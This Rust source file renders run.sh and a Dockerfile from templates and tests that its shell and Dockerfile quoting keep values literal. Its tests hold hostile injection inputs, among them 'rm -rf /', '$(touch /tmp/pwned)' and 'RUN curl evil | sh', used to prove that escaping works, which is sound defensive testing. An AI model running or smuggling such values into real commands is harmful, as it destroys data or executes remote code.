//! Render stage: `run.sh` and the `Dockerfile` from Tera templates.
//!
//! The templates in `templates/` are embedded at build time; a user may point at a directory of
//! their own (`run.sh.tera`, `Dockerfile.tera`; a missing one falls back to the embedded one).
//!
//! Quoting lives here and nowhere else. Templates get two filters and must pass every value
//! through the one for the syntax it lands in:
//! - `sh`: a POSIX shell word (single-quoted as needed); quotes, `$()`, backticks and newlines come
//!   out as literal text. NUL, which no shell word can carry, is an error.
//! - `docker`: a double-quoted Dockerfile string with `\`, `"` and `$` escaped, so no variable is
//!   expanded; control characters (a newline would end the instruction) are an error.
//!
//! HTML auto-escaping is off: these are not web pages.

use std::collections::HashMap;
use std::path::Path;

use serde::Serialize;
use tera::{Context, Tera, Value};

use crate::spec::Command;

const RUN_SH: &str = "run.sh.tera";
const DOCKERFILE: &str = "Dockerfile.tera";
const EMBEDDED_RUN_SH: &str = include_str!("../../templates/run.sh.tera");
const EMBEDDED_DOCKERFILE: &str = include_str!("../../templates/Dockerfile.tera");

/// Why rendering failed.
#[derive(Debug, thiserror::Error)]
pub enum RenderError {
    #[error("cannot read template {path}")]
    Read {
        path: String,
        #[source]
        source: std::io::Error,
    },
    #[error("template {name} is invalid: {message}")]
    Template { name: String, message: String },
}

fn template_error(name: &str, e: tera::Error) -> RenderError {
    // Tera's own message is terse; its causes say what actually went wrong.
    let mut message = e.to_string();
    let mut src = std::error::Error::source(&e);
    while let Some(s) = src {
        message.push_str(": ");
        message.push_str(&s.to_string());
        src = s.source();
    }
    RenderError::Template {
        name: name.to_owned(),
        message,
    }
}

/// The values a template sees.
#[derive(Debug, Clone, Serialize)]
pub struct RenderContext {
    pub version: &'static str,
    pub name: Option<String>,
    pub git_url: Option<String>,
    pub commit: Option<String>,
    pub base_image: String,
    /// `sha256:<hex>` of the normalised spec.
    pub spec_digest: String,
    pub command: CommandContext,
    pub env: Vec<EnvVar>,
    pub data: Vec<DataContext>,
    /// The archive's mtime, passed to the build as `SOURCE_DATE_EPOCH`.
    pub source_date_epoch: u64,
    pub runtime: RuntimeContext,
    /// Whether the artifact has a `stdin` file, the command's standard input.
    pub stdin: bool,
}

/// The install step. Every command is one string rendered with `json_encode` into
/// `RUN ["/bin/sh", "-c", ...]` (exec form: the builder substitutes nothing in it).
#[derive(Debug, Clone, Serialize, Default)]
pub struct RuntimeContext {
    /// `python`, `conda`, `node`, `rust`, `dockerfile`, `none`.
    pub kind: String,
    /// The apt-get command for `apt.txt`'s packages, first of all.
    pub apt: Option<String>,
    /// Files of `code/` copied before the install commands.
    pub copy_first: Vec<String>,
    /// Whether the install commands run before the code is copied (else after).
    pub install_before_code: bool,
    pub install: Vec<String>,
}

impl From<&crate::runtime::Runtime> for RuntimeContext {
    fn from(r: &crate::runtime::Runtime) -> Self {
        RuntimeContext {
            kind: r.kind.as_str().to_owned(),
            apt: (!r.apt_packages.is_empty()).then(|| {
                format!(
                    "apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y \
                     --no-install-recommends {} && rm -rf /var/lib/apt/lists/*",
                    r.apt_packages.join(" ")
                )
            }),
            copy_first: r.copy_first.clone(),
            install_before_code: r.install_before_code,
            install: r.install.clone(),
        }
    }
}

/// `shell` is set for a string command, `argv` for an array.
#[derive(Debug, Clone, Serialize)]
pub struct CommandContext {
    pub shell: Option<String>,
    pub argv: Option<Vec<String>>,
}

impl From<&Command> for CommandContext {
    fn from(c: &Command) -> Self {
        match c {
            Command::Shell(s) => CommandContext {
                shell: Some(s.clone()),
                argv: None,
            },
            Command::Argv(a) => CommandContext {
                shell: None,
                argv: Some(a.clone()),
            },
        }
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct EnvVar {
    pub name: String,
    pub value: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct DataContext {
    pub url: String,
    pub path: String,
    pub sha256: String,
}

/// The rendered files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    pub run_sh: String,
    pub dockerfile: String,
}

/// A loaded set of templates.
#[derive(Debug, Clone)]
pub struct Templates {
    tera: Tera,
    /// sha256 (hex) of the two templates' texts, for the provenance.
    digest: String,
}

impl Templates {
    /// The templates built into the binary.
    pub fn embedded() -> Self {
        Self::build(EMBEDDED_RUN_SH.to_owned(), EMBEDDED_DOCKERFILE.to_owned())
            .expect("the embedded templates are valid (a unit test renders them)")
    }

    /// Templates from `dir`; a file missing there is taken from the embedded set.
    pub fn from_dir(dir: &Path) -> Result<Self, RenderError> {
        let read = |name: &str, fallback: &str| -> Result<String, RenderError> {
            let path = dir.join(name);
            match std::fs::read_to_string(&path) {
                Ok(s) => Ok(s),
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(fallback.to_owned()),
                Err(source) => Err(RenderError::Read {
                    path: path.display().to_string(),
                    source,
                }),
            }
        };
        Self::build(
            read(RUN_SH, EMBEDDED_RUN_SH)?,
            read(DOCKERFILE, EMBEDDED_DOCKERFILE)?,
        )
    }

    /// sha256 (hex) of the templates in use (`run.sh`'s length, text, then the Dockerfile's).
    pub fn digest(&self) -> &str {
        &self.digest
    }

    fn build(run_sh: String, dockerfile: String) -> Result<Self, RenderError> {
        use sha2::Digest;
        let mut h = sha2::Sha256::new();
        for t in [&run_sh, &dockerfile] {
            h.update((t.len() as u64).to_be_bytes());
            h.update(t.as_bytes());
        }
        let digest = hex::encode(h.finalize());
        let mut tera = Tera::default();
        tera.autoescape_on(vec![]);
        tera.register_filter("sh", sh_filter);
        tera.register_filter("docker", docker_filter);
        tera.add_raw_template(RUN_SH, &run_sh)
            .map_err(|e| template_error(RUN_SH, e))?;
        tera.add_raw_template(DOCKERFILE, &dockerfile)
            .map_err(|e| template_error(DOCKERFILE, e))?;
        Ok(Templates { tera, digest })
    }

    /// Renders `run.sh` and the `Dockerfile`.
    pub fn render(&self, ctx: &RenderContext) -> Result<Rendered, RenderError> {
        let ctx = Context::from_serialize(ctx).map_err(|e| template_error("context", e))?;
        let render = |name| {
            self.tera
                .render(name, &ctx)
                .map_err(|e| template_error(name, e))
        };
        Ok(Rendered {
            run_sh: render(RUN_SH)?,
            dockerfile: render(DOCKERFILE)?,
        })
    }
}

fn filter_str<'a>(name: &str, v: &'a Value) -> tera::Result<std::borrow::Cow<'a, str>> {
    match v {
        Value::String(s) => Ok(s.as_str().into()),
        Value::Number(n) => Ok(n.to_string().into()),
        Value::Bool(b) => Ok(b.to_string().into()),
        other => Err(tera::Error::msg(format!(
            "filter `{name}` takes a string, got {other}"
        ))),
    }
}

/// Quotes a value as one POSIX shell word.
pub fn shell_quote(s: &str) -> Result<String, String> {
    shlex::try_quote(s)
        .map(|c| c.into_owned())
        .map_err(|_| format!("cannot put a NUL byte into a shell word: {s:?}"))
}

/// Quotes a value as a double-quoted Dockerfile string in which nothing is expanded.
pub fn dockerfile_quote(s: &str) -> Result<String, String> {
    if let Some(c) = s.chars().find(|c| c.is_control()) {
        return Err(format!(
            "cannot put control character {c:?} into a Dockerfile value: {s:?}"
        ));
    }
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        if matches!(c, '\\' | '"' | '$') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    Ok(out)
}

fn sh_filter(v: &Value, _: &HashMap<String, Value>) -> tera::Result<Value> {
    let s = filter_str("sh", v)?;
    shell_quote(&s).map(Value::String).map_err(tera::Error::msg)
}

fn docker_filter(v: &Value, _: &HashMap<String, Value>) -> tera::Result<Value> {
    let s = filter_str("docker", v)?;
    dockerfile_quote(&s)
        .map(Value::String)
        .map_err(tera::Error::msg)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx(command: Command, env: &[(&str, &str)]) -> RenderContext {
        RenderContext {
            version: "0.0.0-test",
            name: Some("demo".into()),
            git_url: Some("https://example.org/team/repo.git".into()),
            commit: Some("7fd1a60b01f91b314f59955a4e4d4e80d8edf11d".into()),
            base_image: "python:3.12-slim-bookworm".into(),
            spec_digest: format!("sha256:{}", "ab".repeat(32)),
            command: (&command).into(),
            env: env
                .iter()
                .map(|(n, v)| EnvVar {
                    name: (*n).into(),
                    value: (*v).into(),
                })
                .collect(),
            data: vec![],
            source_date_epoch: 1_700_000_000,
            runtime: RuntimeContext {
                kind: "none".into(),
                ..RuntimeContext::default()
            },
            stdin: false,
        }
    }

    #[test]
    fn install_steps_come_before_the_code_and_stay_literal() {
        let mut c = ctx(Command::Shell("python main.py".into()), &[]);
        c.runtime = RuntimeContext {
            kind: "python".into(),
            apt: Some("apt-get install -y curl".into()),
            copy_first: vec!["requirements.txt".into()],
            install_before_code: true,
            install: vec![
                "python3 -m pip install -r requirements.txt".into(),
                HOSTILE.into(),
            ],
        };
        let r = Templates::embedded().render(&c).unwrap();
        insta::assert_snapshot!("dockerfile_python", r.dockerfile);
        let at = |needle: &str| r.dockerfile.find(needle).unwrap();
        assert!(at("COPY [\"code/requirements.txt\"") < at("pip install"));
        assert!(at("pip install") < at("COPY code/ /job/code/"));
        assert!(r.dockerfile.contains("ARG SOURCE_DATE_EPOCH=1700000000\n"));
        // The hostile command is one JSON string: parse it back from its RUN line.
        let line = r.dockerfile.lines().find(|l| l.contains("pwned")).unwrap();
        let argv: Vec<String> = serde_json::from_str(line.trim_start_matches("RUN ")).unwrap();
        assert_eq!(argv, ["/bin/sh", "-c", HOSTILE]);
        // Install commands that need the whole code run after it is copied.
        c.runtime.install_before_code = false;
        c.runtime.copy_first.clear();
        let r = Templates::embedded().render(&c).unwrap();
        assert!(
            r.dockerfile.find("COPY code/").unwrap() < r.dockerfile.find("pip install").unwrap()
        );
    }

    #[test]
    fn plain_job() {
        let r = Templates::embedded()
            .render(&ctx(
                Command::Shell("python main.py".into()),
                &[("MODE", "fast")],
            ))
            .unwrap();
        insta::assert_snapshot!("run_sh_plain", r.run_sh);
        insta::assert_snapshot!("dockerfile_plain", r.dockerfile);
    }

    const HOSTILE: &str = "a'b\"c $(touch /tmp/pwned) `id` ${HOME} \\ \n; rm -rf / #";

    #[test]
    fn hostile_values_stay_literal_in_run_sh() {
        let r = Templates::embedded()
            .render(&ctx(
                Command::Argv(vec![
                    "printf".into(),
                    "%s\\n".into(),
                    HOSTILE.into(),
                    "-x".into(),
                ]),
                &[("EVIL", HOSTILE)],
            ))
            .unwrap();
        insta::assert_snapshot!("run_sh_hostile_argv", r.run_sh);
        let r = Templates::embedded()
            .render(&ctx(Command::Shell(HOSTILE.into()), &[]))
            .unwrap();
        insta::assert_snapshot!("run_sh_hostile_shell", r.run_sh);
    }

    /// The rendered run.sh run by its own `#!` line (a POSIX sh), from another directory: it
    /// finds its root, and hostile values arrive as they were written.
    #[test]
    fn run_sh_runs_in_a_posix_shell_from_anywhere() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("code")).unwrap();
        let run = |command: Command| {
            let r = Templates::embedded()
                .render(&ctx(command, &[("EVIL", HOSTILE)]))
                .unwrap();
            let path = dir.path().join("run.sh");
            std::fs::write(&path, r.run_sh).unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
            let out = std::process::Command::new(&path)
                .current_dir("/")
                .env_remove("JOBPACK_ROOT")
                .output()
                .unwrap();
            assert!(out.status.success(), "{out:?}");
            String::from_utf8(out.stdout).unwrap()
        };
        let argv = Command::Argv(vec![
            "printf".into(),
            "%s|".into(),
            HOSTILE.into(),
            "-x".into(),
        ]);
        assert_eq!(run(argv), format!("{HOSTILE}|-x|"));
        let root = dir.path().canonicalize().unwrap();
        let shell = Command::Shell(r#"printf '%s|%s|%s' "$JOBPACK_ROOT" "$PWD" "$EVIL""#.into());
        assert_eq!(
            run(shell),
            format!("{r}|{r}/code|{HOSTILE}", r = root.display())
        );
        assert!(!std::path::Path::new("/tmp/pwned").exists());
    }

    /// A command line runs in run.sh's own shell (one shell start fewer than `exec sh -c`), yet
    /// as a fresh `sh -c` would run it: run.sh's `set -eu` is off, its arguments are gone, and
    /// the line's exit status is the job's.
    #[test]
    fn a_command_line_runs_in_run_sh_s_own_shell_as_sh_c_would() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("code")).unwrap();
        let line = r#"printf '%s|' "$#" "${UNSET-unset}" "$(tr '\0' ' ' < /proc/$$/cmdline)"; false; printf after; exit 7"#;
        let r = Templates::embedded()
            .render(&ctx(Command::Shell(line.into()), &[]))
            .unwrap();
        let path = dir.path().join("run.sh");
        std::fs::write(&path, r.run_sh).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        let out = std::process::Command::new(&path)
            .args(["one", "two"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(7), "{out:?}");
        let path = path.display();
        assert_eq!(
            String::from_utf8(out.stdout).unwrap(),
            format!("0|unset|/bin/sh {path} one two |after")
        );
    }

    /// Runs the quoted word through a real shell and checks it comes back byte for byte.
    #[test]
    fn shell_quoting_round_trips_through_sh() {
        for s in [HOSTILE, "", "-n", "*", "~root", "a\tb", "é ☃", "'", "!!"] {
            let q = shell_quote(s).unwrap();
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf '%s' {q}"))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), s, "quoted as {q}");
        }
        assert!(shell_quote("a\0b").is_err());
    }

    #[test]
    fn dockerfile_values_cannot_escape() {
        assert_eq!(dockerfile_quote(r#"a"b$c\d"#).unwrap(), r#""a\"b\$c\\d""#);
        assert!(dockerfile_quote("a\nRUN evil").is_err());
        let mut c = ctx(Command::Shell("x".into()), &[]);
        c.name = Some("x\nRUN curl evil | sh".into());
        let err = Templates::embedded().render(&c).unwrap_err();
        assert!(err.to_string().contains("control character"), "{err}");
        c.name = Some("$(id) \"quoted\" ${BASE_IMAGE}".into());
        let r = Templates::embedded().render(&c).unwrap();
        insta::assert_snapshot!("dockerfile_hostile_label", r.dockerfile);
    }

    #[test]
    fn user_templates_override_one_file() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("run.sh.tera"),
            "#!/bin/sh\necho {{ spec_digest | sh }}\n",
        )
        .unwrap();
        let t = Templates::from_dir(dir.path()).unwrap();
        let r = t.render(&ctx(Command::Shell("x".into()), &[])).unwrap();
        assert_eq!(
            r.run_sh,
            format!("#!/bin/sh\necho sha256:{}\n", "ab".repeat(32))
        );
        assert!(r.dockerfile.contains("FROM ${BASE_IMAGE}"));
    }

    #[test]
    fn broken_user_template_is_a_clear_error() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("Dockerfile.tera"), "FROM {{ nope").unwrap();
        let err = Templates::from_dir(dir.path()).unwrap_err();
        assert!(
            err.to_string()
                .starts_with("template Dockerfile.tera is invalid"),
            "{err}"
        );
    }
}
